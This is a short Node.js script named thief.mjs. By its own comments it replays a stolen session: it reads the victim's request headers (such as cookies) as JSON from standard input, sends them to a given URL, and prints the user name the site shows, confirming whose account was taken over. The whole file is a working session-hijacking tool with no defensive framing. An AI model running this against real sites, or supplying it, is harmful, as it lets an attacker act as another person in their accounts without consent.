// Uses a stolen session with the headers of its owner, and says for whom the site took the request.
// thief.mjs URL, the headers as JSON on standard input: [[name, value], ...].
const chunks = [];
for await (const chunk of process.stdin) chunks.push(chunk);
const headers = JSON.parse(Buffer.concat(chunks));
const answer = await fetch(process.argv[2], { headers });
console.log((await answer.text()).split('id="user">').pop().split('<')[0]);
